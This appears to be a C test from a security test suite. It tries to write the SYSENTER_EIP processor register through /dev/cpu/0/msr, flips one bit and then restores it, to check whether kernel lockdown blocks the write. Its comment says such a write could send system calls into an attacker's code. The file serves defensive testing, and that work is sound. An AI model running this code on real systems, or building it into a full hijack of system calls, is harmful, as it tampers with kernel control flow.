// SPDX-License-Identifier: Apache-2.0
/*
 * Writes a processor register (MSR) from userspace: with another one the kernel's
 * system calls would enter the attacker's code.
 *
 * attack: msr_write
 * class: system
 * when: idle
 * judge: self
 * defence: boot
 * why: /dev/cpu/0/msr; lockdown shuts it, and the REE has no such node
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <string.h>
#include <unistd.h>

#include "report.h"

#define NODE		"/dev/cpu/0/msr"
#define SYSENTER_EIP	0x176	/* where sysenter goes; as good as any to show it */

static int put(int fd, uint64_t value)
{
	return pwrite(fd, &value, sizeof(value), SYSENTER_EIP) == sizeof(value) ? 0 : -errno;
}

int main(void)
{
	uint64_t old, now = 0;
	int fd, ret;

	attack_init();
	attack_ready();
	fd = open(NODE, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		attack_failed(NODE ": %s", strerror(errno));
	if (pread(fd, &old, sizeof(old), SYSENTER_EIP) != sizeof(old))
		attack_failed("read: %s", strerror(errno));
	ret = put(fd, old ^ 0x10);
	if (ret)
		attack_failed("write: %s", strerror(-ret));
	if (pread(fd, &now, sizeof(now), SYSENTER_EIP) != sizeof(now) || put(fd, old))
		attack_failed("it cannot be read back: %s", strerror(errno));
	if (now != (old ^ 0x10))
		attack_failed("it does not hold");
	attack_succeeded("register %#x was %#" PRIx64 " and became %#" PRIx64, SYSENTER_EIP, old, now);
}
